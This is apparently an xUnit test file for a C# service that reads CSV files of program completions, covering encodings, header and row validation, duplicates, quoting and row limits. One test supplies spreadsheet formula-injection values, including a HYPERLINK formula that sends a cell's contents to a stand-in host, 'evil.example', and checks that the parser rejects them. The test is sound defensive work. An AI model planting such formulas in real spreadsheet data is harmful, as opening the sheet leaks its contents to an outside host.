using System.Text;
using OpenLer.Server.Features.Issuance.Bulk;

namespace OpenLer.Server.Tests.Bulk;

/// <summary>Reading completions files: encodings, header, row checks and their plain-language problems (no database).</summary>
public sealed class CompletionFileTests
{
    private const string Header = "contact,name,program,completion_date,evidence,english_level,language";
    private static readonly DateOnly Today = new(2026, 12, 7);

    private static List<CompletionLine> Lines(string text)
    {
        var (lines, problem) = CompletionFile.Read(text, "US", Today);
        Assert.Null(problem);
        return lines!;
    }

    [Fact]
    public void Utf8_with_and_without_byte_order_mark_reads_the_same()
    {
        var text = Header + "\r\njose@example.org,José Ñúñez,Job Readiness,2026-05-31,,,es\r\n";
        var plain = CsvText.Decode(Encoding.UTF8.GetBytes(text));
        var bom = CsvText.Decode([0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)]);
        Assert.Equal("UTF-8", plain.Value.Encoding);
        Assert.Equal(plain.Value.Text, bom.Value.Text);
        Assert.Equal("José Ñúñez", Lines(bom.Value.Text).Single().Completion!.Name);
    }

    [Theory]
    [InlineData(true, false)]
    [InlineData(true, true)]
    [InlineData(false, false)]
    public void Utf16_with_a_byte_order_mark_or_without_one_is_read(bool byteOrderMark, bool bigEndian)
    {
        var text = Header + "\njose@example.org,علي حسن,Job Readiness,2026-05-31,,,ar\n";
        var encoding = new UnicodeEncoding(bigEndian, byteOrderMark);
        byte[] bytes = [.. encoding.GetPreamble(), .. encoding.GetBytes(text)];
        var decoded = CsvText.Decode(bytes);
        Assert.True(decoded.IsSuccess);
        Assert.Equal("UTF-16", decoded.Value.Encoding);
        Assert.Equal("علي حسن", Lines(decoded.Value.Text).Single().Completion!.Name);
    }

    [Fact]
    public void Windows_1252_is_read_and_named_so_staff_can_check_the_names()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var bytes = Encoding.GetEncoding(1252).GetBytes(Header + "\r\njose@example.org,José Müller,Job Readiness,2026-05-31,Caf\u00e9 shifts,,en\r\n");
        var decoded = CsvText.Decode(bytes);
        Assert.Equal("Windows-1252", decoded.Value.Encoding);
        Assert.Equal("José Müller", Lines(decoded.Value.Text).Single().Completion!.Name);
    }

    [Fact]
    public void A_binary_file_or_an_empty_one_is_refused_as_a_whole()
    {
        var binary = CsvText.Decode([0x50, 0x4B, 0x03, 0x04, 0x00, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0xFF]);
        Assert.False(binary.IsSuccess);
        Assert.Contains("CSV UTF-8", binary.Error.Message, StringComparison.Ordinal);
        Assert.False(CsvText.Decode([]).IsSuccess);
    }

    [Theory]
    [InlineData("email,name,program,completion_date", "missing: contact; not known: email")]
    [InlineData("contact,name,program", "missing: completion_date")]
    [InlineData("contact,name,program,completion_date,contact", "twice: contact")]
    public void A_wrong_header_names_what_is_missing_or_unknown_and_stores_nothing(string header, string detail)
    {
        var (lines, problem) = CompletionFile.Read(header + "\na@example.org,A,Job Readiness,2026-01-01\n", "US", Today);
        Assert.Null(lines);
        Assert.StartsWith("The first line must name the columns", problem!.Message, StringComparison.Ordinal);
        Assert.Equal(detail, problem.Detail);
    }

    [Fact]
    public void Header_names_are_read_in_any_order_and_case_with_spaces()
    {
        var line = Lines("Name;Completion Date;Program;Contact\nAmina Yusuf;2026-05-31;Job Readiness;+1 520 555 0142\n").Single();
        Assert.Equal("+15205550142", line.Completion!.Contact);
        Assert.Equal(new DateOnly(2026, 5, 31), line.Completion.CompletedOn);
        Assert.Equal("en", line.Completion.Language);
    }

    [Fact]
    public void Each_bad_row_gets_one_plain_problem_and_good_rows_pass()
    {
        var lines = Lines(string.Join("\n",
            Header,
            "amina@example.org,Amina Yusuf,Job Readiness,2026-05-31,\"Forklift, safety\",b2,",
            ",No Contact,Job Readiness,2026-05-31,,,",
            "not-a-contact,Someone,Job Readiness,2026-05-31,,,",
            "x@example.org,,Job Readiness,2026-05-31,,,",
            "y@example.org,Y,,2026-05-31,,,",
            "z@example.org,Z,Job Readiness,31/05/2026,,,",
            "w@example.org,W,Job Readiness,2099-01-01,,,",
            "v@example.org,V,Job Readiness,2026-05-31,,B3,",
            "u@example.org,U,Job Readiness,2026-05-31,,,xx",
            "t@example.org,T,Job Readiness,2026-05-31",
            "s@example.org,S,Job Readiness,2026-05-31," + new string('e', 2001) + ",,"));
        Assert.Equal(11, lines.Count);
        var good = lines[0].Completion!;
        Assert.Equal(("amina@example.org", "Forklift, safety", "B2"), (good.Contact, good.Evidence, good.EnglishLevel));
        Assert.Equal(2, lines[0].Line);
        string?[] expected =
        [
            null,
            "The contact is empty. Give an e-mail address or a phone number.",
            "The contact is not an e-mail address or a phone number we can use.",
            "The name is empty.",
            "The program is empty.",
            "The completion date is not a date written as year-month-day, for example 2026-05-31.",
            "The completion date is in the future.",
            "The English level is not one of A1, A2, B1, B2, C1, C2.",
            "The language is not one this service offers. Leave it empty for English.",
            "This row has a different number of values than the first line. Check for a comma inside a value without quotes.",
            "The evidence is longer than 2,000 characters or has characters we cannot use.",
        ];
        Assert.Equal(expected, lines.Select(l => l.Problem));
        Assert.All(lines.Skip(1), l => Assert.Null(l.Completion));
    }

    [Fact]
    public void A_formula_in_a_name_is_refused_and_in_the_evidence_kept_as_plain_text()
    {
        var lines = Lines(string.Join("\n",
            Header,
            "a@example.org,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",Job Readiness,2026-05-31,,,",
            "b@example.org,@SUM(1+1),Job Readiness,2026-05-31,,,",
            "c@example.org,Carla,Job Readiness,2026-05-31,\"=HYPERLINK(\"\"https://evil.example\"\")\",,"));
        Assert.StartsWith("A name or program starts with = or @", lines[0].Problem, StringComparison.Ordinal);
        Assert.StartsWith("A name or program starts with = or @", lines[1].Problem, StringComparison.Ordinal);
        Assert.Equal("=HYPERLINK(\"https://evil.example\")", lines[2].Completion!.Evidence);
    }

    [Fact]
    public void Duplicate_rows_and_one_contact_with_two_names_point_to_the_earlier_row()
    {
        var lines = Lines(string.Join("\n",
            Header,
            "amina@example.org,Amina Yusuf,Job Readiness,2026-05-31,,,",
            "AMINA@example.org,Amina Yusuf,job readiness,2026-05-31,,,",
            "amina@example.org,Amina Y. Other,Job Readiness,2026-06-30,,,",
            "amina@example.org,Amina Yusuf,Warehouse Basics,2026-06-30,,,"));
        Assert.Null(lines[0].Problem);
        Assert.Equal(("The same person, program and date as an earlier row. Row:", "2"), (lines[1].Problem, lines[1].Detail));
        Assert.Equal(("The same contact as an earlier row, but a different name. Check which is right. Row:", "2"), (lines[2].Problem, lines[2].Detail));
        Assert.Null(lines[3].Problem);
    }

    [Fact]
    public void Quoted_values_hold_commas_quotes_and_line_breaks_and_an_open_quote_names_its_line()
    {
        var line = Lines(Header + "\r\na@example.org,\"Yusuf, Amina\",Job Readiness,2026-05-31,\"Line one\r\nLine \"\"two\"\"\",,\r\n").Single();
        Assert.Equal("Yusuf, Amina", line.Completion!.Name);
        Assert.Equal("Line one\r\nLine \"two\"", line.Completion.Evidence);

        var (lines, problem) = CompletionFile.Read(Header + "\na@example.org,A,Job Readiness,2026-05-31,,,\nb@example.org,\"B,Job Readiness,2026-05-31,,,\n", "US", Today);
        Assert.Null(lines);
        Assert.Equal("3", problem!.Detail);
    }

    [Fact]
    public void A_hundred_thousand_bad_rows_each_get_their_problem()
    {
        var text = new StringBuilder(Header).Append('\n');
        for (var i = 0; i < 100_000; i++)
        {
            text.Append("person").Append(i).Append("@example.org,Person ").Append(i).Append(",Job Readiness,not a date,,,\n");
        }

        var lines = Lines(text.ToString());
        Assert.Equal(100_000, lines.Count);
        Assert.All(lines, l => Assert.Equal("The completion date is not a date written as year-month-day, for example 2026-05-31.", l.Problem));
        Assert.Equal(100_001, lines[^1].Line);
    }

    [Fact]
    public void A_file_over_the_row_limit_is_refused_as_a_whole()
    {
        var text = new StringBuilder(Header).Append('\n');
        for (var i = 0; i <= CompletionFile.MaxRows; i++)
        {
            text.Append("a,b,c,d,e,f,g\n");
        }

        var (lines, problem) = CompletionFile.Read(text.ToString(), "US", Today);
        Assert.Null(lines);
        Assert.StartsWith("The file has too many rows", problem!.Message, StringComparison.Ordinal);
    }
}
